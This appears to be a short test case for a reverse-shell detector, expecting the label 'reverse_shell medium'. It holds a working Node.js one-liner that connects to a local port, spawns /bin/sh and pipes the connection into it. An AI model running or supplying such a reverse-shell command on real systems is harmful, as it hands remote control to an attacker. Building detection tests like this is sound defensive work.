# about: node pipes the connection into a shell that it runs
# expect: reverse_shell medium
# needs: python3 node
proven 4510
timeout 6 node -e 'const s=require("net").connect(4510,"127.0.0.1",()=>{const p=require("child_process").spawn("/bin/sh",[]);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s);p.on("exit",()=>s.destroy())})' || true
answered
